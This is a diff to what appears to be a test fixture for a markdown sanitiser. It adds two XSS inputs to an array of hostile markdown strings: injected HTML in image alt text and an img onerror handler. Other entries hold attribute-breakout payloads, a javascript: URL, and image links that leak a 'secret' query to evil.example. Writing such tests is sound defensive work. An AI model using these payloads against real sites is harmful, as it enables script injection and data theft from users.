@@ -50,6 +50,8 @@ export const hostileMarkdown: string[] = [
   '[![a](https://evil.example/"onerror="window.__pwned=1)](https://b.c)',
   '![a](https://evil.example/leak?q=secret)',
   '![a][i]\n\n[i]: https://evil.example/leak?q=secret',
+  '![<button class="button">Unlock</button>](x)',
+  '![<img src=x onerror=window.__pwned=1>](https://b.c/i.png)',
   '![x](x"onerror="window.__pwned=1)',
   '![" onerror="window.__pwned=1](https://b.c/i.png)',
   '![a](javascript:window.__pwned=1)',
